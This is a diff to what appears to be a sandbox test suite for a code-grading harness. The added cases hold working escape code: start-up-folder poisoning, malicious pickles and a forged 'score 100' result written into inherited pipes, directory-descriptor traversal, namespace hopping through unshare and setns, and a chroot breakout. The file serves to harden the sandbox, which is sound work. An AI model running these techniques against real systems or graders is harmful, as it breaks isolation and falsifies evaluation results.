@@ -111,7 +111,8 @@ ATTACKS: tuple[Animal, ...] = (
         """
         import builtins, glob, os, sys, tempfile
         import numpy, pandas
-        mark = "zoo_poison"
+        # A mark of this day, not one that a run without walls left lying about.
+        mark = f"zoo_poison_{known['ids'][0]}"
         # Either run of this notebook comes after the other: what one left, the other finds.
         places = [os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm",
                   os.path.expanduser("~"), os.path.expanduser("~/.ipython"),
@@ -129,15 +130,16 @@ ATTACKS: tuple[Animal, ...] = (
         os.environ[mark] = "1"
         for place in places:
             try:
-                with open(os.path.join(place, mark + ".py"), "w") as file:
-                    file.write("import builtins; builtins.zoo_poison = True")
+                path = os.path.abspath(os.path.join(place, mark + ".py"))
+                with open(path, "w") as file:
+                    # Where somebody's own start-up folder was reached it works once, and goes.
+                    file.write(f"import builtins, os; builtins.{mark} = os.unlink({path!r})")
             except OSError:
                 pass
         numpy.random.seed(1)
         pandas.DataFrame.sum = lambda *_, **__: 0
         """,
-        # Its own second check works no longer, and that is its own affair.
-        after="correct",
+        facts=facts.processes,
     ),
     attack(
         "leaves_a_note_for_the_next_run",
@@ -145,7 +147,8 @@ ATTACKS: tuple[Animal, ...] = (
         import os, random, tempfile
         import numpy
         drawn = f"{numpy.random.rand()} {random.random()} {hash('zoo')}"
-        for name in ("zoo_luck.txt", os.path.join(tempfile.gettempdir(), "zoo_luck.txt")):
+        note = f"zoo_note_{known['ids'][0]}.txt"
+        for name in (note, os.path.join(tempfile.gettempdir(), note)):
             try:
                 if os.path.exists(name):
                     confess("a note of another run", open(name).read() == drawn)
@@ -153,6 +156,7 @@ ATTACKS: tuple[Animal, ...] = (
             except OSError:
                 pass
         """,
+        facts=facts.processes,
     ),
     attack(
         "answers_the_grader_instead_of_the_kernel",
@@ -180,6 +184,103 @@ ATTACKS: tuple[Animal, ...] = (
                 print(type(error).__name__)
         """,
         after="correct|error|killed",
+    ),
+    attack(
+        "writes_pickles_into_every_pipe",
+        """
+        import io, os, pickle, stat, struct
+        class Trap:
+            def __reduce__(self):
+                return io.open, (known, "w")
+        trap = pickle.dumps(Trap())
+        # As a pool of processes frames what it sends, and bare.
+        framed = struct.pack("!i", len(trap)) + trap
+        for number in range(3, 256):
+            try:
+                mode = os.fstat(number).st_mode
+                if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
+                    os.set_blocking(number, False)
+                    for data in (framed, trap, b'{"state": "correct", "score": 100}\\n'):
+                        os.write(number, data)
+            except OSError:
+                pass
+        """,
+        facts=_unpickled,
+        after="correct|error|timeout|killed",
+    ),
+    attack(
+        "climbs_up_from_files_it_was_given",
+        """
+        import os
+        for number in range(3, 256):
+            for up in range(12):
+                for path in known["places"]:
+                    parts = path.lstrip("/").split("/")
+                    for start in range(len(parts)):
+                        way = "../" * up + "/".join(parts[start:])
+                        try:
+                            os.close(os.open(way, os.O_RDONLY, dir_fd=number))
+                            confess("by file", number, way)
+                        except OSError:
+                            pass
+        """,
+        facts=facts.key,
+    ),
+    attack(
+        "makes_name_spaces_of_its_own",
+        """
+        import ctypes, glob, os
+        c = ctypes.CDLL(None)
+        # A child for each way: it has one thread, as the system asks.
+        ways = [None, *glob.glob("/proc/[0-9]*/ns/mnt"), *glob.glob("/proc/[0-9]*/ns/net")]
+        for way in ways:
+            child = os.fork()
+            if child == 0:
+                reached = 0
+                try:
+                    if way is None:
+                        c.unshare(0x10000000)
+                        c.unshare(0x00020000)
+                        c.mount(b"none", b"/", None, 0x8020, None)
+                        for place in known["places"]:
+                            c.umount2(os.path.dirname(place).encode(), 2)
+                    else:
+                        file = os.open(way, os.O_RDONLY)
+                        c.setns(file, 0)
+                    reached = any(os.path.exists(path) for path in known["places"])
+                except OSError:
+                    pass
+                finally:
+                    os._exit(7 if reached else 0)
+            if os.waitpid(child, 0)[1] >> 8 == 7:
+                confess("the key, through", way)
+        """,
+        facts=facts.key,
+    ),
+    attack(
+        "leaves_its_root",
+        """
+        import os
+        child = os.fork()
+        if child == 0:
+            reached = False
+            try:
+                os.makedirs("jail", exist_ok=True)
+                file = os.open(".", os.O_RDONLY)
+                os.chroot("jail")
+                os.fchdir(file)
+                for _ in range(40):
+                    os.chdir("..")
+                os.chroot(".")
+                reached = any(os.path.exists(path) for path in known["places"])
+            except OSError:
+                pass
+            finally:
+                os._exit(7 if reached else 0)
+        if os.waitpid(child, 0)[1] >> 8 == 7:
+            confess("the key, from outside the root")
+        """,
+        facts=facts.key,
     ),
     attack(
         "leaves_pickles",
